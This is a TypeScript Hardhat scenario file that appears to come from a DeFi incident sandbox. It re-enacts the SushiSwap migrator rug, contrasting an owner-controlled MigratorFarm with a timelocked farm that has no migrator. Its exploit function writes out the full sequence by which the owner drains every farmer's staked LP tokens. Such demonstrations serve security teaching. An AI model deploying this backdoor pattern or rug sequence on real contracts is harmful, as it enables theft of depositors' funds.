import type { HardhatEthersSigner } from "@nomicfoundation/hardhat-ethers/types";
import { ZeroAddress, ZeroHash, id } from "ethers";

import {
  AmmPair__factory,
  Farm__factory,
  MigratorFarm__factory,
  RewardToken__factory,
  RugMigrator__factory,
  SandboxTimelock__factory,
  type AmmPair,
  type Farm,
} from "../../typechain-types/index.js";
import { keyPath, pendingCallsTo, timelockPath, type AdminPath } from "./admin-path.js";
import { formatAmount } from "./format.js";
import { measureTracked } from "./measure.js";
import { commonChecks, describeRevert } from "./run.js";
import { attempt, send } from "./steps.js";
import type { QuotePrice, Scenario, ScenarioEnv, World } from "./types.js";

const ONE = 10n ** 18n;

/** WETH and DAI each farmer puts into the WETH/DAI pool before staking the LP tokens. */
export const MIGRATOR_LIQUIDITY = {
  alice: { weth: 5n * ONE, dai: 10_000n * ONE },
  bob: { weth: 3n * ONE, dai: 6_000n * ONE },
  carol: { weth: 2n * ONE, dai: 4_000n * ONE },
} as const;
/** The hardened farm's timelock delay: two days, as SushiSwap added after the scare. */
export const MIGRATOR_TIMELOCK_DELAY = 2n * 24n * 3_600n;
const FARMERS = ["alice", "bob", "carol"] as const;

export interface MigratorWorld extends World {
  /** The farm holding the stakes: a MigratorFarm (vulnerable) or the core Farm (hardened). */
  farm: Farm;
  pid: bigint;
  lp: AmmPair;
  /** How the farm's owner acts: the attacker's own key, or a timelock the attacker proposes to. */
  admin: AdminPath;
  /** Block of the setup's end: users watch the timelock from there on. */
  watchFrom: number;
}

/** LP tokens valued in the pair's quote token at its reserves: 2 × quote reserve × amount / supply. */
export function lpPrice(
  pair: AmmPair,
  quoteToken: string,
  symbol: string,
  decimals: number,
): QuotePrice {
  return {
    symbol,
    decimals,
    async convert(amount) {
      const [r0, r1] = await pair.getReserves();
      const quoteReserve =
        (await pair.token0()).toLowerCase() === quoteToken.toLowerCase() ? r0 : r1;
      return (amount * 2n * quoteReserve) / (await pair.totalSupply());
    },
  };
}

async function addLiquidity(
  env: ScenarioEnv,
  farmer: HardhatEthersSigner,
  weth: bigint,
  dai: bigint,
) {
  const { sandbox } = env;
  const router = await sandbox.router.getAddress();
  await send(sandbox.weth.connect(farmer).deposit({ value: weth }));
  await send(sandbox.weth.connect(farmer).approve(router, weth));
  await send(sandbox.dai.faucet(farmer.address, dai));
  await send(sandbox.dai.connect(farmer).approve(router, dai));
  const latest = await env.ethers.provider.getBlock("latest");
  await send(
    sandbox.router
      .connect(farmer)
      .addLiquidity(
        await sandbox.weth.getAddress(),
        await sandbox.dai.getAddress(),
        weth,
        dai,
        0n,
        0n,
        farmer.address,
        BigInt(latest?.timestamp ?? 0) + 3_600n,
      ),
  );
}

/** A farm whose owner can hand every staked LP token to a contract of its choosing. */
export const migratorRug: Scenario<MigratorWorld> = {
  name: "migrator-rug",
  title: "Migrator rug: the farm's owner migrates every staked LP token to itself",
  incident:
    "SushiSwap, 2020-09: MasterChef's setMigrator let the owner move all staked LP in one call; Chef Nomi's control of it was the fear behind the 2020-09-05 sell-off",
  fix: "no migrator (core Farm) and the owner behind a 2-day timelock",

  async setup(env, side) {
    const { actors, sandbox, log } = env;
    const { attacker } = actors;
    const lp = AmmPair__factory.connect(await sandbox.pairWethDai.getAddress(), actors.deployer);
    const reward = await new RewardToken__factory(attacker).deploy(attacker.address, 10n ** 27n);
    await reward.waitForDeployment();

    let farm: Farm;
    let admin: AdminPath;
    let pid: bigint;
    if (side === "vulnerable") {
      const deployed = await new MigratorFarm__factory(attacker).deploy(
        await reward.getAddress(),
        ONE,
        0n,
        30n * 86_400n,
        0n,
        1n,
        attacker.address,
      );
      await deployed.waitForDeployment();
      farm = Farm__factory.connect(await deployed.getAddress(), attacker);
      pid = await farm.poolLength();
      await send(farm.add(100n, await lp.getAddress()));
      admin = keyPath(attacker);
      log("  the team (attacker) deploys a MigratorFarm it owns with one key");
    } else {
      // No delay while the team sets the farm up, then two days for every later change.
      const timelock = await new SandboxTimelock__factory(attacker).deploy(
        0n,
        [attacker.address],
        [ZeroAddress],
        ZeroAddress,
      );
      await timelock.waitForDeployment();
      const deployed = await new Farm__factory(attacker).deploy(
        await reward.getAddress(),
        ONE,
        0n,
        30n * 86_400n,
        0n,
        1n,
        await timelock.getAddress(),
      );
      await deployed.waitForDeployment();
      farm = deployed;
      pid = await farm.poolLength();
      const targets = [await farm.getAddress(), await timelock.getAddress()];
      const payloads = [
        farm.interface.encodeFunctionData("add", [100n, await lp.getAddress()]),
        timelock.interface.encodeFunctionData("updateDelay", [MIGRATOR_TIMELOCK_DELAY]),
      ];
      // A fresh timelock each setup: a fixed salt cannot collide.
      const salt = id("migrator-rug-setup");
      await send(timelock.scheduleBatch(targets, [0n, 0n], payloads, ZeroHash, salt, 0n));
      await send(timelock.executeBatch(targets, [0n, 0n], payloads, ZeroHash, salt));
      admin = timelockPath(env, timelock, attacker, MIGRATOR_TIMELOCK_DELAY);
      log("  the team (attacker) deploys the core Farm owned by a timelock with a 2-day delay");
    }
    await send(reward.grantRole(await reward.MINTER_ROLE(), await farm.getAddress()));

    const farmAddress = await farm.getAddress();
    const world: MigratorWorld = {
      side,
      env,
      attacker,
      contract:
        side === "vulnerable" ? "MigratorFarm, one owner key" : "Farm, owner = 2-day timelock",
      farm,
      pid,
      lp,
      admin,
      watchFrom: 0,
      tracked: {
        asset: { kind: "erc20", symbol: "LP", decimals: 18, token: lp },
        attacker: [attacker.address],
        victims: FARMERS.map((name) => actors[name].address),
        protocol: farmAddress,
        victimsClaims: 0n,
        dust: 0n,
        quote: lpPrice(lp, await sandbox.dai.getAddress(), "DAI", 18),
      },
      errorInterfaces: [
        lp.interface,
        MigratorFarm__factory.createInterface(),
        SandboxTimelock__factory.createInterface(),
        RugMigrator__factory.createInterface(),
      ],
    };
    for (const name of FARMERS) {
      const farmer = actors[name];
      const before = await lp.balanceOf(farmer.address);
      await addLiquidity(env, farmer, MIGRATOR_LIQUIDITY[name].weth, MIGRATOR_LIQUIDITY[name].dai);
      const minted = (await lp.balanceOf(farmer.address)) - before;
      await send(lp.connect(farmer).approve(farmAddress, minted));
      await send(farm.connect(farmer).deposit(pid, minted, farmer.address));
      world.tracked.victimsClaims += minted;
      log(`  ${name} adds liquidity and stakes ${formatAmount(minted, 18, "LP")}`);
    }
    world.watchFrom = await env.ethers.provider.getBlockNumber();
    return world;
  },

  async exploit(world) {
    const { attacker, farm, pid, admin, env } = world;
    const farmAddress = await farm.getAddress();
    const migrator = await new RugMigrator__factory(attacker).deploy(farmAddress, attacker.address);
    await migrator.waitForDeployment();
    const iface = MigratorFarm__factory.createInterface();
    env.log(`  the owner sets a RugMigrator and migrates the pool through ${admin.label}`);
    await admin.act([
      {
        target: farmAddress,
        data: iface.encodeFunctionData("setMigrator", [await migrator.getAddress()]),
      },
      { target: farmAddress, data: iface.encodeFunctionData("migrate", [pid]) },
    ]);
  },

  async settle(world) {
    const { farm, pid, admin, env } = world;
    const farmAddress = await farm.getAddress();
    if (admin.timelock !== null) {
      const pending = await pendingCallsTo(admin.timelock, farmAddress, world.watchFrom);
      env.log(
        `  the farmers see ${pending.length} pending call(s) to the farm in the timelock and leave`,
      );
    }
    for (const name of FARMERS) {
      const farmer = env.actors[name];
      const [staked] = await farm.userInfo(pid, farmer.address);
      if (staked === 0n) continue;
      await attempt(world, `${name} withdraws ${formatAmount(staked, 18, "LP")}`, () =>
        farm.connect(farmer).emergencyWithdraw(pid, farmer.address),
      );
    }
    if (admin.timelock !== null) {
      const error = await admin.executeQueued();
      env.log(
        `  two days later the owner executes the queued batch: ${error === null ? "it went through" : `reverted (${describeRevert(error, world.errorInterfaces)})`}`,
      );
    }
  },

  measure(world, sinceBlock) {
    return measureTracked(world.env.ethers, world.tracked, sinceBlock);
  },

  check: commonChecks,
};
